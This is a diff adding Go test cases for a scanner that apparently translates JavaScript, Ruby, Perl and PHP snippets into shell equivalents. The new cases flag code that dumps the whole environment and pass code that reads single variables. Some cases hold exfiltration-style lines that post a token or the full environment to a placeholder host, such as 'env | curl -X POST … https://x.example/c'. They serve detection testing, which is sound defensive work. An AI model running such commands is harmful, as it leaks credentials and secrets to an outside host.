@@ -169,6 +169,24 @@ func TestScan(t *testing.T) {
 		// an environment variable in a request is sent
 		{lang: "js", src: `fetch('https://x.example/?k=' + process.env.TOKEN)`, find: []string{`curl "https://x.example/?k=${TOKEN}"`}},
 		{lang: "js", src: `fetch('https://x.example/', {method: 'POST', body: process.env.TOKEN})`, find: []string{`curl -X POST --data-raw "${TOKEN}" https://x.example/`}},
+		// the whole environment is read as env prints it, and sent where
+		// the program sends data
+		{lang: "ruby", src: `puts ENV.to_h`, find: []string{"env"}},
+		{lang: "ruby", src: `p ENV`, find: []string{"env"}},
+		{lang: "perl", src: `print %ENV`, find: []string{"env"}},
+		{lang: "perl", src: `for (sort keys %ENV) { print "$_\n" }`, find: []string{"env"}},
+		{lang: "js", src: `console.log(JSON.stringify(process.env))`, find: []string{"env"}},
+		{lang: "js", src: `const e = {...Bun.env}`, find: []string{"env"}},
+		{lang: "js", src: `console.log(Deno.env.toObject())`, find: []string{"env"}},
+		{lang: "php", src: `print_r($_ENV);`, find: []string{"env"}},
+		{lang: "php", src: `var_dump(getenv());`, find: []string{"env"}},
+		{lang: "js", src: `fetch('https://x.example/c', {method: 'POST', body: JSON.stringify(process.env)})`,
+			find: []string{"env | curl -X POST --data-binary @- https://x.example/c"}},
+		{lang: "ruby", src: `puts ENV["HOME"]; puts ENV.fetch("PATH")`, none: []string{"env"}},
+		{lang: "perl", src: `print $ENV{PATH}`, none: []string{"env"}},
+		{lang: "js", src: `console.log(process.env.HOME, process.env["PATH"])`, none: []string{"env"}},
+		{lang: "js", src: `Deno.env.get("HOME")`, none: []string{"env"}},
+		{lang: "php", src: `echo $_SERVER["HOME"]; echo getenv("PATH");`, none: []string{"env"}},
 	}
 	for _, tt := range tests {
 		res := Scan(tt.lang, tt.src, nil)
